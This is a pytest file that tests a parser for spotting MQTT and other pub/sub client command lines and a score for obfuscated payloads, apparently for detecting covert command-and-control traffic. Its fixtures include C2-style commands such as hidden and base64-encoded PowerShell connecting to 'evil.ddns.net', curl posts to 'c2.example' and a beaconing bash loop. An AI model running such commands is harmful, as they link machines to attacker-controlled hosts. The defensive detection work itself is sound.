"""The pub/sub command-line reader and the payload obfuscation score (analytics/cmdline.py)."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analytics.cmdline import parse_command_line, payload_score, split_args

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def _enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize("cmd, want", [
    ("mosquitto_pub -h 203.0.113.7 -t a8f3/x9Qz -m aGVsbG8=",
     dict(tool="mosquitto_pub", broker="203.0.113.7", port=1883, topic="a8f3/x9Qz", message="aGVsbG8=", tls=False)),
    ("/usr/bin/mosquitto_sub -L mqtts://u:p@evil.duckdns.org:8883/cmd/abc",
     dict(tool="mosquitto_sub", broker="evil.duckdns.org", port=8883, topic="cmd/abc", scheme="mqtts", tls=True)),
    ("mosquitto_pub --host b.example --port 1884 --topic t --message m",
     dict(broker="b.example", port=1884, topic="t", message="m")),
    ("mosquitto_pub -h b.example --cafile /etc/ca.pem -t t -m m", dict(port=8883, tls=True)),
    ("bash -c 'while true; do mosquitto_pub -h 1.2.3.4 -p 1884 -t t -m x; sleep 60; done'",
     dict(tool="mosquitto_pub", broker="1.2.3.4", port=1884)),
    ("sudo -u pi mosquitto_pub -h h -t t -m m", dict(tool="mosquitto_pub", broker="h")),
    ("timeout 5 nc 1.2.3.4 1883", dict(tool="nc", broker="1.2.3.4", port=1883)),
    ("nc -w 3 198.51.100.9 1883", dict(tool="nc", broker="198.51.100.9", port=1883)),
    ("ncat --ssl 1.2.3.4 5671", dict(tool="ncat", port=5671, tls=True)),
    ("socat - OPENSSL:10.0.0.5:8883,verify=0", dict(tool="socat", broker="10.0.0.5", port=8883, tls=True)),
    ("socat STDIO TCP:[2001:db8::5]:1883", dict(broker="2001:db8::5", port=1883, tls=False)),
    ("""python3 -c "import paho.mqtt.client as m;c=m.Client();c.connect('broker.hivemq.com',1883);"""
     """c.publish('dev/1','aGVsbG8=')" """,
     dict(tool="python3", broker="broker.hivemq.com", port=1883, topic="dev/1", message="aGVsbG8=", library="paho")),
    ("""python -c "import socket;s=socket.socket();s.connect(('10.9.9.9',4222));s.send(b'PUB x 2')" """,
     dict(broker="10.9.9.9", port=4222, library="socket", message="PUB x 2")),
    ("curl -s -X POST https://x.example.com/mqtt -d 'eyJhIjoxfQ=='",
     dict(tool="curl", broker="x.example.com", port=443, path="/mqtt", method="POST", message="eyJhIjoxfQ==")),
    ("wget --post-data=abc https://h/ws", dict(tool="wget", path="/ws", method="POST")),
    ("curl https://example.com/", dict(tool="curl", method="GET", path="/")),
    (PS + " -nop -w hidden -c \"$c=New-Object System.Net.Sockets.TCPClient('evil.ddns.net',8883)\"",
     dict(tool="powershell", broker="evil.ddns.net", port=8883, tls=True, library="System.Net.Sockets")),
    ("powershell.exe -enc " + _enc("$c=New-Object System.Net.Sockets.TcpClient('1.2.3.4',1883);"),
     dict(tool="powershell", broker="1.2.3.4", port=1883)),
    ("powershell -EncodedCommand " + _enc("[uPLibrary.Networking.M2Mqtt.MqttClient]::new('m.example', 8883)"),
     dict(broker="m.example", port=8883, library="M2Mqtt", tls=True)),
    ("cmd.exe /c powershell -c \"Invoke-WebRequest -Uri https://a.b/mqtt -Method Post -Body x\"",
     dict(tool="powershell", broker="a.b", path="/mqtt", method="POST")),
    ("""osascript -e 'do shell script "curl -X POST https://c2.example/mqtt -d hi"'""",
     dict(tool="osascript", broker="c2.example", path="/mqtt", method="POST", library="curl")),
    ("osascript -l JavaScript -e \"$.NSURL.URLWithString('https://x.test/mqtt')\"",
     dict(tool="osascript", broker="x.test", path="/mqtt")),
])
def test_reads_broker_topic_message(cmd, want):
    inv = parse_command_line(cmd)
    assert inv is not None, cmd
    for k, v in want.items():
        assert getattr(inv, k) == v, (cmd, k, inv)


@pytest.mark.parametrize("cmd", [
    "", "/usr/sbin/sshd -D", "mosquitto -c /etc/mosquitto/mosquitto.conf", "ls -la /tmp", "python3 app.py",
    "nc -l 1883", "bash", "curl", r"C:\Windows\explorer.exe", "powershell -enc !!!notbase64", "socat - -",
    "bash -c 'echo \"unterminated", "osascript -e 'display dialog \"hi\"'",
])
def test_other_command_lines_are_not_invocations(cmd):
    assert parse_command_line(cmd) is None


def test_windows_paths_keep_their_backslashes():
    assert split_args(r'"C:\Program Files\x\a.exe" -h C:\tmp\b') == [r"C:\Program Files\x\a.exe", "-h", r"C:\tmp\b"]


@given(st.text(max_size=300))
@settings(max_examples=400, deadline=None)
def test_any_text_is_read_or_refused_never_raised(cmd):
    inv = parse_command_line(cmd)
    assert inv is None or isinstance(inv.port, int) and 0 <= inv.port < 65536


@given(st.lists(st.sampled_from(["mosquitto_pub", "-h", "-p", "-t", "-m", "-L", "nc", "socat", "curl", "-X", "-d",
                                 "bash", "-c", "osascript", "-e", "powershell", "-enc", "mqtt://", "'", '"', "99999",
                                 "1883", "h", "TCP:h:1", "https://a/mqtt", "sudo", ";", "do"]), max_size=12))
@settings(max_examples=400, deadline=None)
def test_tool_shaped_garbage_never_raises(parts):
    parse_command_line(" ".join(parts))


@pytest.mark.parametrize("message, low, high", [
    ("on", 0.0, 0.0), ('{"temp": 21.5, "hum": 40}', 0.0, 0.0), ("The quick brown fox jumps over the lazy dog", 0.0, 0.0),
    ("SGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q=", 0.6, 1.0), ("deadbeefcafebabe0011223344", 0.6, 1.0),
    (base64.b64encode(bytes(range(256)) * 2).decode(), 0.9, 1.0),
])
def test_payload_score(message, low, high):
    score, reasons = payload_score(message, 1024)
    assert low <= score <= high, (message, score, reasons)
    assert bool(reasons) == (score > 0)


def test_payload_length_counts_against_the_threshold():
    long_text = "word " * 100
    assert payload_score(long_text, 100)[0] > 0
    assert payload_score(long_text, 10_000)[0] == 0
